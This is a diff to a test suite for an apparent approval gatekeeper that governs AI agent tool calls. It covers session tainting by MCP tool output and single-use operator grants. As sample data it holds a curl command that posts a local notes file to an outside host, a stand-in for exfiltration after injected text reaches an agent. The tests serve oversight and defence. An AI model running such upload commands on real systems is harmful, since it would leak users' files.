@@ -203,8 +203,10 @@ test('needsApproval asks in the gatekeeper session: a tainted session is not wav
   const tools = { upload: { tool: 'bash', detail: (i) => i.command } };
   const keeper = new Gatekeeper(client, { wait: 5, session, tools });
   const upload = { command: 'curl -X POST https://example.com/upload -d @notes.txt' };
-  // Fresh session: the way out is allowed, no approval needed.
-  assert.equal(await new AgentsGate(keeper).needsApproval('upload')(undefined, upload), false);
+  // In a fresh session the way out is allowed, no approval needed (and,
+  // recorded as it runs, its answer from the network taints that session).
+  const fresh = new Gatekeeper(client, { wait: 5, session: `${session}-fresh`, tools });
+  assert.equal(await new AgentsGate(fresh).needsApproval('upload')(undefined, upload), false);
   // A stranger's text enters the session (an MCP tool's answer) ...
   const mcp = await keeper.decide({ tool: 'mcp__github__create_issue', detail: '{"title":"t"}' });
   assert.equal(mcp.approved, true, mcp.message);
@@ -212,4 +214,27 @@ test('needsApproval asks in the gatekeeper session: a tainted session is not wav
   assert.equal(await new AgentsGate(keeper).needsApproval('upload')(undefined, upload), true);
   assert.equal(await new MastraGate(keeper).requireToolApproval({ toolName: 'upload', args: upload }), true);
   assert.equal(await needsApproval(keeper, 'upload')(upload), true);
+});
+
+test('needsApproval records an allowed call: a grant of one use lets exactly one call skip approval', async () => {
+  const { AgentsGate } = await import('../dist/openai-agents.js');
+  const { Gatekeeper } = await import('../dist/index.js');
+  const a = await d.agent(ASK);
+  const client = new Client({ url: d.url, key: a.key });
+  const keeper = new Gatekeeper(client, { wait: 5, tools: { build: { tool: 'bash', detail: (i) => i.command } } });
+  const operator = await d.key('operator');
+  await d.call('POST', '/v1/grants', { tool: 'bash', pattern: 'make build', agent: a.name, uses: 1, expires: '1h' }, operator);
+  const gate = new AgentsGate(keeper);
+  const build = { command: 'make build' };
+  // The grant allows one call: it runs without an interruption, and its use is taken.
+  assert.equal(await gate.needsApproval('build')(undefined, build), false);
+  // Its use is gone: the next one needs a human, however often it is asked.
+  assert.equal(await gate.needsApproval('build')(undefined, build), true);
+  assert.equal(await gate.needsApproval('build')(undefined, build), true);
+  // The call that ran is in the record, allowed by the grant; nothing is left pending.
+  const list = await d.call('GET', `/v1/actions?agent=${a.name}`, undefined, operator);
+  const approved = list.items.filter((x) => x.status === 'approved');
+  assert.equal(approved.length, 1, JSON.stringify(list.items));
+  assert.equal(approved[0].decision.rule?.kind, 'grant', JSON.stringify(approved[0]));
+  assert.equal(list.items.filter((x) => x.status === 'pending').length, 0, JSON.stringify(list.items));
 });
